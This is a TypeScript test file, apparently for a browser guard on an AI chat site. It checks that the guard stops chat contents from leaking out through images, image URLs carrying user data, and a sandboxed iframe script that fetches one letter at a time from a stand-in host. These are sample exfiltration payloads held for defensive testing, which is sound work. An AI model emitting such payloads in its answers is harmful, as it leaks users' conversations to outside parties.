import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { findFirefox } from '../../scripts/find-browser.mjs';
import { waitUntil } from '../../scripts/drive/guarded-browser';
import type { Answer } from '../../scripts/drive/serve';
import { chatPage, openChatLab, type ChatLab, type ChatTab } from '../harness/chat-lab';

/** What passes one by one and spells a text together. */

const chat = 'https://chat.mistral.ai';
const host = 'https://pictures.example';

function web(url: URL): Answer | null {
  return url.hostname === 'chat.mistral.ai' ? chatPage() : null;
}

const names = findFirefox() ? (['chromium', 'firefox'] as const) : (['chromium'] as const);

describe.each(names)('a host that was allowed, in %s', (name) => {
  let lab: ChatLab;
  let tab: ChatTab;

  beforeAll(async () => {
    lab = await openChatLab(name, web);
    tab = await lab.openChat(`${chat}/c/1`);
  });
  afterAll(() => lab.close());

  /** Shows pictures one after the other until one does not load. Returns those that did. */
  async function spell(letters: string): Promise<string> {
    let passed = '';
    for (const letter of letters) {
      const isThere = await tab.evaluate(
        (url) =>
          new Promise<boolean>((resolve) => {
            const picture = document.createElement('img');
            picture.addEventListener('load', () => resolve(true));
            picture.addEventListener('error', () => resolve(false));
            picture.src = url;
            document.getElementById('answer')?.append(picture);
          }),
        `${host}/${letter}.png`,
      );
      if (!isThere) break;
      passed += letter;
      // What the page loaded is told a moment later; answers come letter by letter, too.
      await waitUntil(
        () => countOf(),
        (count) => count >= passed.length,
      );
    }
    return passed;
  }

  /** Addresses that the guard has counted by now, or the number of letters once the host is held. */
  async function countOf(): Promise<number> {
    if ((await lab.stored('session', `shut:${tab.id}`)) !== null) return Infinity;
    const counts = await lab.stored('session', `allowed:${tab.id}`);
    return JSON.stringify(counts ?? '').split('.png').length - 1;
  }

  it('shows pictures, spells no text, and is asked about again', async () => {
    await lab.change({ allowedHosts: [{ chat: 'le-chat', host: 'pictures.example', since: 1 }] });
    lab.left();
    expect(await spell('jordanex')).toBe('jord');
    expect(lab.left()).toEqual([...'jord'].map((letter) => `pictures.example/${letter}.png`));

    const attempts = await tab.attemptsAre((all) => all.length === 2);
    expect(attempts.map(({ state }) => state)).toEqual(['let-through', 'held']);
    for (const { verdict } of attempts) expect(verdict.reasons).toContain('letter-by-letter');

    // Allowed again, it goes on, and is asked about again later.
    const held = attempts[1];
    expect(await tab.decide(held?.id, 'host-allowed')).toBe(true);
    await waitUntil(
      async () => lab.left(),
      (all) => all.includes('pictures.example/a.png'),
    );
    expect(await lab.stored('session', `shut:${tab.id}`)).toEqual([]);
    await tab.say('<img src="https://pictures.example/photo.png" id="photo">');
    await waitUntil(
      async () => lab.left(),
      (all) => all.includes('pictures.example/photo.png'),
    );
  });

  it('learns no words of the chat twice', async () => {
    await tab.visit(`${chat}/c/2`);
    lab.left();
    await tab.say(`<img src="${host}/?for=Jordan+Example+482913">`);
    const [first] = await tab.attemptsAre((all) => all.length === 1);
    expect(first?.verdict.reasons).toContain('carries-chat');
    // Firefox judges before a request leaves; Chromium's rules know hosts only, so there the next one is held.
    expect(first?.state).toBe(name === 'firefox' ? 'held' : 'let-through');
    lab.left();
    if (name === 'chromium') {
      await tab.say(`<img src="${host}/harmless.png">`);
      await tab.attemptsAre((all) => all.some(({ state }) => state === 'held'));
    }
    expect(lab.left()).toEqual([]);
  });

  it('learns no more from the scripts of a preview, while the app’s own go on', async () => {
    await tab.visit(`${chat}/c/3`);
    lab.left();
    const script = `(async () => { for (const letter of 'jordanexample') {
      await fetch('${host}/' + letter + '.json', { mode: 'no-cors' }).catch(() => undefined);
      await new Promise((resolve) => setTimeout(resolve, 400));
    } })()`;
    await tab.say(
      `<iframe sandbox="allow-scripts" srcdoc="&lt;script&gt;${script}&lt;/script&gt;"></iframe>`,
    );
    await tab.attemptsAre((all) => all.some(({ state }) => state === 'held'));
    const before = lab.left();
    expect(before.length).toBeLessThan(8);
    const isThere = await tab.evaluate(
      (url) =>
        fetch(url, { mode: 'no-cors' }).then(
          () => true,
          () => false,
        ),
      `${host}/telemetry`,
    );
    expect(isThere).toBe(true);
    expect(lab.left()).toContain('pictures.example/telemetry');
  });

  it('is not counted for what the app shows around its answers', async () => {
    await tab.visit(`${chat}/c/4`);
    lab.left();
    await tab.evaluate((from) => {
      for (const letter of 'jordanexample'.slice(0, 7)) {
        const picture = document.createElement('img');
        picture.src = `${from}/menu/${letter}.png`;
        document.body.append(picture);
      }
      return new Promise((resolve) => window.setTimeout(resolve, 500));
    }, host);
    await waitUntil(
      async () => new Set(lab.world.seen.filter((line) => line.includes('/menu/'))).size,
      (count) => count === 7,
    );
    await tab.say(`<img src="${host}/photo.png">`);
    await waitUntil(
      () => countOf(),
      (count) => count === 1,
    );
    expect(await tab.attempts()).toEqual([]);
  });
});
